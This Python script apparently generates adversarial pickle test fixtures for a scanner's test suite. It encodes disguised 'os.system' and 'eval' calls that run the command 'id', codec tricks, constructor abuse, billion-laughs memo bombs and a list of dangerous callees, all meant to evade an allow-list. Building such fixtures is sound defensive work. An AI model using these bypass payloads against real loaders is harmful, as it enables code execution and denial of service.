"""
More files by somebody who has read our source, as {name: base64}: what vouched names do with values that the pickle
computes, and files that are no pickles at all. attacks.test.ts says what must be said of each. Made here, never loaded.
"""
import base64
import codecs
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import sys
import zipfile
import zlib

from attacks import (EVIL, EVIL0, EVIL2, NONE, TRUE, built, call, evaluates, items, keyed, listed, model, name, namespace, new, number,
                     saved, stored, text, zipped)

files = {}

# Keys that nobody reads: they are computed while loading
string = name("builtins", "str")
data = b"C\x0c__setstate__"
computed = {
    "a decoded text": call(string, data, text("utf-8")),
    "a text of a text": call(string, text("__setstate__")),
    "a joined path": call(name("posixpath", "join"), text(""), text("__setstate__")),
    "the end of a path": call(name("posixpath", "basename"), text("a/__setstate__")),
    "a normal path": call(name("ntpath", "normpath"), text("__setstate__")),
    "a text of numpy": call(name("numpy", "str_"), text("__setstate__")),
    "a text of a user": call(string, new(name("collections", "UserString"))),
    "a persistent id": text("key") + b"Q",
    "an extension": b"\x82\x05",
}
for how, key in computed.items():
    files[f"key that is {how}.pkl"] = saved(built(built(new(namespace), b"}" + key + model + b"s"), evaluates))
    files[f"slot that is {how}.pkl"] = saved(built(built(new(namespace), items(NONE, b"}" + key + model + b"s")), evaluates))

# States that are no dicts, and dicts within them
hidden = keyed(__setstate__=model)
states = {
    "dict in a slot": items(NONE, keyed(__dict__=hidden)),
    "user's dict": built(new(name("collections", "UserDict")), keyed(data=hidden)),
    "map of a chain": built(new(name("collections", "ChainMap")), keyed(maps=listed(hidden))),
    "dict that is called": call(name("builtins", "dict"), hidden),
    "ordered dict that is called": call(name("collections", "OrderedDict"), hidden),
    "default dict": call(name("collections", "defaultdict"), NONE, hidden),
    "counter": call(name("collections", "Counter"), hidden),
    "series": built(new(name("pandas.core.series", "Series")), keyed(_mgr=hidden)),
    "persistent id": text("state") + b"Q",
    "extension": b"\x82\x05",
    "slots of a user's dict": items(NONE, built(new(name("collections", "UserDict")), keyed(data=hidden))),
    "list of pairs": call(name("builtins", "dict"), listed(items(text("__setstate__"), model))),
    "zip": call(name("builtins", "dict"), call(name("builtins", "zip"), listed(text("__setstate__")), listed(model))),
    "reconstructed dict": call(name("copyreg", "_reconstructor"), name("collections", "OrderedDict"), name("builtins", "dict"), hidden),
}
for what, state in states.items():
    files[f"state that is a {what}.pkl"] = saved(built(built(new(namespace), state), evaluates))

# Constructors that vouched functions call
old = name("copyreg", "_reconstructor")
files["constructor of a base.pkl"] = saved(call(old, model, model, evaluates))
files["constructor of a base of another class.pkl"] = saved(call(old, namespace, model, evaluates))
files["constructor of a base of Python 2.pkl"] = saved(call(name("copy_reg", "_reconstructor"), model, model, evaluates), 2)
files["constructor of a base by OBJ.pkl"] = saved(b"(" + old + model + model + evaluates + b"o")
files["constructor of a base that is applied.pkl"] = saved(call(name("torch._tensor", "_rebuild_from_type_v2"), old, model,
    items(model, model, evaluates), NONE))
files["many bytes of a base.pkl"] = saved(call(old, name("builtins", "bytes"), name("builtins", "bytes"), number(10**13)))
files["endless base.pkl"] = saved(call(old, name("builtins", "list"), name("builtins", "list"), call(name("itertools", "count"))))
files["index of a constructor.pkl"] = saved(call(name("pandas.core.indexes.base", "_new_Index"), string, keyed(
    object=data, encoding=text("zlib_codec"))))

# __new__ with arguments that the constructor is not vouched for
for module, kind, argument in (
    ("builtins", "bytes", number(10**13)), ("builtins", "bytearray", number(10**13)), ("builtins", "tuple", call(name("itertools", "count"))),
    ("builtins", "frozenset", call(name("itertools", "repeat"), NONE)), ("builtins", "set", call(name("itertools", "cycle"), listed(NONE))),
    ("fractions", "Fraction", text("1e999999999")), ("array", "array", text("b") + call(name("itertools", "count"))),
):
    files[f"{kind} by NEWOBJ.pkl"] = saved(new(name(module, kind), argument))
    files[f"{kind} by NEWOBJ_EX.pkl"] = saved(name(module, kind) + items(argument) + b"}\x92")
files["codec by NEWOBJ.pkl"] = saved(new(string, data, text("evil_codec")))
files["codec of bytes by NEWOBJ.pkl"] = saved(new(name("builtins", "bytes"), text("x"), text("evil_codec")))
files["codec by __newobj__.pkl"] = saved(call(name("copyreg", "__newobj__"), string, data, text("evil_codec")))
files["codec by __newobj_ex__.pkl"] = saved(call(name("copyreg", "__newobj_ex__"), string, items(data, text("evil_codec")), b"}"))
files["names by NEWOBJ_EX.pkl"] = saved(string + b")" + keyed(object=data, encoding=text("evil_codec")) + b"\x92")

# Methods of what calls returned, texts as attributes
files["replace of a number.pkl"] = saved(call(name("uuid", "UUID"), built(new(namespace), keyed(replace=model))))
files["pop of a state.pkl"] = saved(built(new(name("sklearn.linear_model._base", "LinearRegression")), built(new(namespace), keyed(
    pop=model, keys=model))))
files["attribute of a partial.pkl"] = saved(built(call(name("functools", "partial"), name("builtins", "int")), keyed(func=model)))
files["texts of a format.pkl"] = saved(built(call(name("random", "Random")), items(number(2), items(text("%2000000000d")), NONE)))

# States that are small in the file and large to whoever follows each part of them
laughs = b"K\1K\1\x86q\0" + b"".join(b"0h%ch%c\x86q%c" % (level, level, level + 1) for level in range(200))
files["laughs of a state.pkl"] = saved(laughs + b"0" + built(call(name("random", "Random")), items(number(3), b"h\xc8", text("x"))))
files["laughs of a dict.pkl"] = saved(b"}q\0(" + text("__dict__") + b"h\0" + text("__setstate__") + model + b"u0"
    + built(built(new(namespace), items(NONE, b"h\0")), evaluates))

# Names in disguise
def stack_global(module, attribute):
    return module + attribute + b"\x93"


files["module that is joined.pkl"] = saved(call(stack_global(call(name("posixpath", "basename"), text("x/os")), text("system")), text("id")))
files["name that is joined.pkl"] = saved(call(stack_global(text("os"), call(name("posixpath", "basename"), text("x/system"))), text("id")))
files["module of a persistent id.pkl"] = saved(call(stack_global(text("os") + b"Q", text("system")), text("id")))
files["module from the memo.pkl"] = saved(text("os") + b"q\x07" + b"0" + text("collections") + b"q\x08" + b"0"
    + call(stack_global(b"h\x07", text("system")), text("id")))
files["memo that is written again.pkl"] = saved(text("collections") + b"q\x07" + b"0" + text("os") + b"q\x07" + b"0"
    + call(stack_global(b"h\x07", text("system")), text("id")))
files["wide name.pkl"] = saved(call(stack_global(text("ｏｓ"), text("system")), text("id")))
files["name with a space.pkl"] = saved(name("os ", "system"))
files["name with a NUL.pkl"] = saved(stack_global(text("os\0"), text("system")))
files["name in capitals.pkl"] = saved(name("OS", "System"))
files["module with a slash.pkl"] = saved(name("../evil", "x"))
files["empty module.pkl"] = saved(stack_global(text(""), text("system")))
files["module of modules.pkl"] = saved(call(stack_global(text("numpy.lib.utils"), text("os.system")), text("id")))
files["main.pkl"] = saved(call(name("__main__", "run"), text("id")))
files["path of builtins.pkl"] = saved(call(stack_global(text("collections"), text("abc.sys.modules")), text("id")))
files["text of Python 2.pkl"] = b"c__builtin__\neval\n(S'1'\ntR."
files["renamed module of Python 2.pkl"] = b"ccommands\ngetoutput\n(S'id'\ntR."
files["old name in protocol 3.pkl"] = saved(call(name("__builtin__", "eval"), text("1")), 3)
for callee in ("functools.reduce", "operator.methodcaller", "operator.attrgetter", "types.MethodType", "types.CodeType", "types.FunctionType",
               "copyreg.__reduce_ex__", "copyreg.dispatch_table", "copyreg.add_extension", "collections.abc.Callable.register", "weakref.WeakMethod",
               "contextlib.redirect_stdout", "inspect.getattr_static", "types.DynamicClassAttribute", "functools.singledispatch",
               "functools.cached_property", "operator.setitem", "operator.iadd", "_operator.delitem", "collections.namedtuple",
               "dataclasses.make_dataclass", "enum.Enum._missing_", "typing.NamedTuple", "string.Formatter", "asyncio.run", "codecs.decode",
               "encodings.search_function", "pickle._Unpickler", "numpy.load", "numpy.fromfile", "numpy.ctypeslib.load_library", "pandas.read_pickle",
               "pandas.eval", "pandas.DataFrame.query", "pandas.io.common.get_handle", "torch.load", "torch.hub.load", "torch.jit.load",
               "sklearn.utils._joblib.load", "joblib.load", "xgboost.Booster.load_model", "keras.models.load_model", "keras.layers.Lambda",
               "dill._dill._create_code", "dill._dill._import_module", "dill._dill._eval_repr", "cloudpickle.cloudpickle._make_function",
               "cloudpickle.cloudpickle.subimport", "cloudpickle.cloudpickle._make_skeleton_class", "_pickle.Unpickler"):
    module, attribute = callee.rsplit(".", 1)
    files[f"{callee}.pkl"] = saved(call(name(module, attribute), text("x"), text("y")))

if __name__ == "__main__":
    json.dump({name: base64.b64encode(data).decode() for name, data in files.items()}, sys.stdout)
